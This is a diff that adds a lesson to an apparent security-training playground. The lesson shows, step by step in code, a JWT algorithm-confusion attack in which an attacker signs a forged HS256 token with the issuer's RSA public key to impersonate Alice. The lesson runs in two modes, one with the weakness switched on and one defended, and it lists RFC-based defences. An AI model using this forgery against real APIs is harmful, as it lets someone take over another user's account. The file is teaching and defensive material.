@@ -1,0 +1,190 @@
+"""Forged JWT: HS256 keyed with the issuer's public key (algorithm confusion)."""
+
+import jwt
+from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
+
+from playground import Lesson, jwt_forge
+
+ALICE = "u-1001"  # Alice's user id; ids are not secrets (they show up in links)
+ALGORITHM_CHECK = "InvalidAlgorithmError: The specified alg value is not allowed"
+
+lesson = Lesson(
+    "Forged JWT: HS256 with the public key (algorithm confusion)",
+    level="advanced",
+    kind="attack",
+    weakness="rs.allow_hs256_key_confusion",
+    summary=(
+        "The authorization server signs with RSA and publishes its public key, "
+        "as it must. Mallory downloads it, writes Alice's id into a token and "
+        "signs it with HMAC (HS256), using the public key as the HMAC secret. "
+        "A resource server that lets the token pick the algorithm checks the "
+        "HMAC with that same public key, and it matches."
+    ),
+    defence="""
+- **Pin the algorithm, per key.** The resource server decides which
+  algorithm each key is for (`algorithms=["RS256"]`, or the `alg` in the
+  issuer's JWKS) and never lets the token's header choose (RFC 8725 3.1).
+  RFC 8725 2.1 names this attack: a key meant for RSA verification reused as
+  an HMAC secret.
+- **Keep key types apart.** An RSA public key is not a symmetric secret;
+  PyJWT refuses to use a PEM as an HMAC key for exactly this reason
+  (RFC 8725 3.2, use appropriate algorithms; 3.3, validate all
+  cryptographic operations).
+- **JWT access tokens are asymmetric.** RFC 9068 4 asks the resource server
+  to verify the signature with the issuer's published keys (RFC 8414
+  `jwks_uri`); an HS256 access token from an RS256 issuer is simply wrong.
+- Answer `401 invalid_token` (RFC 6750 3.1), as the defended run shows.
+""",
+)
+
+
+@lesson.step("Mallory gets a real access token of her own")
+def own_token(run):
+    """
+    Mallory has an account at the photos service (the demo user `bob`,
+    Bob Builder, plays her). She signs in to **PhotoPrint Mobile** on her own
+    phone and copies the access token out of the app.
+
+    In the JWT panel, note the header: `alg: RS256` and a `kid`. The
+    authorization server signs with its RSA **private** key; anyone can
+    check the signature with the matching **public** key.
+    """
+    mallorys_phone = run.world.oauth_client("photoprint-mobile")
+    response = mallorys_phone.password("bob", "builder", "basic photos.read")
+    run.own_token = response.json().get("access_token", "")
+    token = run.decode(run.own_token)
+    run.check("the token endpoint answers 200", response.status_code == 200)
+    run.check(
+        "it is Mallory's token (sub u-1002), signed RS256",
+        token.claims.get("sub") == "u-1002" and token.header.get("alg") == "RS256",
+    )
+
+
+@lesson.step("She downloads the authorization server's public key")
+def fetch_public_key(run):
+    """
+    Mallory fetches `GET /jwks.json` from the authorization server, as every
+    resource server does: the public key is public by design (RFC 7517,
+    advertised as `jwks_uri` in the server's metadata, RFC 8414).
+
+    Read the response: one RSA key (`kty: RSA`, `alg: RS256`), its modulus
+    `n` and exponent `e`, and the `kid` the token named. Mallory turns it
+    into the usual PEM text (`-----BEGIN PUBLIC KEY-----...`) with PyJWT and
+    `cryptography`, byte for byte what a resource server would get if it
+    loaded the same key.
+    """
+    response = run.attacker.http.get(f"{run.world.issuer}/jwks.json")
+    jwk = response.json()["keys"][0]
+    public_key = jwt.PyJWK(jwk).key
+    run.public_pem = public_key.public_bytes(
+        Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
+    )
+    run.kid = jwk["kid"]
+    run.check("the JWKS answers 200", response.status_code == 200)
+    run.check(
+        "it holds the RSA key named in Mallory's token",
+        jwk.get("kty") == "RSA"
+        and jwk["kid"] == run.decode(run.own_token).header.get("kid"),
+    )
+    run.check(
+        "Mallory now has the public key as PEM text",
+        run.public_pem.startswith(b"-----BEGIN PUBLIC KEY-----"),
+    )
+
+
+@lesson.step("She signs Alice's claims with HMAC, keyed with that PEM")
+def forge(run):
+    """
+    Mallory copies her claims, changes `sub` to Alice's id `u-1001`, and
+    writes a header with `"alg": "HS256"` and the issuer's `kid`. Then she
+    computes HMAC-SHA256 over `header.claims` (RFC 7518 3.2) with the
+    **public key's PEM as the secret**. Mallory knows that "secret"; so
+    does everyone.
+
+    The JWT panel shows the forgery. Its verdict is the defence: the decoder
+    only accepts RS256 for this issuer, so an HS256 token is refused before
+    any HMAC is computed (`InvalidAlgorithmError`).
+    """
+    claims = {**run.decode(run.own_token).claims, "sub": ALICE}
+    run.forged = jwt_forge.hs256_with_public_key(
+        claims, run.public_pem, header={"kid": run.kid}
+    )
+    shown = run.show_jwt(run.forged, "the forged token (HS256, public key as secret)")
+    run.check(
+        "the forged header says HS256 with the issuer's kid",
+        shown.header.get("alg") == "HS256" and shown.header.get("kid") == run.kid,
+    )
+    run.check("its sub is now Alice's (u-1001)", shown.claims.get("sub") == ALICE)
+    run.check(
+        "a verifier with an RS256 allow-list refuses it (InvalidAlgorithmError)",
+        shown.verification.exception == "InvalidAlgorithmError",
+    )
+
+
+@lesson.step("Mallory presents the forgery to the photos API")
+def present(run):
+    """
+    Read the response.
+
+    **Weakness on** (`rs.allow_hs256_key_confusion`): the API looks up the
+    key by `kid`, sees `alg: HS256` in the token, and hands "the key" to an
+    HMAC check. "The key" is the RSA public key's PEM, the very secret
+    Mallory used: the HMAC matches, and the API answers **200** with
+    **Alice's** profile.
+
+    **Defended**: **401** `invalid_token`. The `error_description` names
+    PyJWT's check: `InvalidAlgorithmError`. The API told PyJWT to accept
+    RS256 only, so the token's `HS256` is refused without computing anything.
+    """
+    response = run.attacker.call_api("/api/user", run.forged)
+    body = response.json()
+    if run.weakness_on:
+        run.check("the API answers 200", response.status_code == 200)
+        run.check(
+            "with ALICE's profile: Mallory is Alice now",
+            body.get("id") == ALICE and body.get("name") == "Alice Liddell",
+        )
+    else:
+        run.check("the API answers 401", response.status_code == 401)
+        run.check("the error is invalid_token", body.get("error") == "invalid_token")
+        run.check(
+            f'error_description: "{ALGORITHM_CHECK}"',
+            body.get("error_description") == ALGORITHM_CHECK,
+        )
+        run.check(
+            "the WWW-Authenticate header carries invalid_token",
+            'error="invalid_token"' in response.headers.get("WWW-Authenticate", ""),
+        )
+
+
+@lesson.step("And Alice's photos")
+def photos(run):
+    """
+    Mallory asks for `/api/photos` with the same forgery.
+
+    **Weakness on**: Alice's photos. The server event
+    `access_token.accepted` is recorded for user `u-1001`: in the API's
+    audit log it was Alice.
+
+    **Defended**: 401 again, and `access_token.rejected` with the reason. An
+    HS256 token from an issuer that only ever signs RS256 is worth an alert.
+    """
+    response = run.attacker.call_api("/api/photos", run.forged)
+    if run.weakness_on:
+        titles = [photo["title"] for photo in response.json().get("photos", [])]
+        accepted = run.world.events.named("access_token.accepted")
+        run.check("the API answers 200", response.status_code == 200)
+        run.check(
+            "with Alice's photos", titles == ["Tea party", "Croquet lawn"], str(titles)
+        )
+        run.check(
+            "the API logged the request as Alice's (access_token.accepted, u-1001)",
+            accepted and accepted[-1].user == ALICE,
+        )
+    else:
+        rejected = run.world.events.named("access_token.rejected")
+        run.check("the API answers 401", response.status_code == 401)
+        run.check(
+            "the API logged access_token.rejected with the reason",
+            rejected and rejected[-1].detail == ALGORITHM_CHECK,
+        )
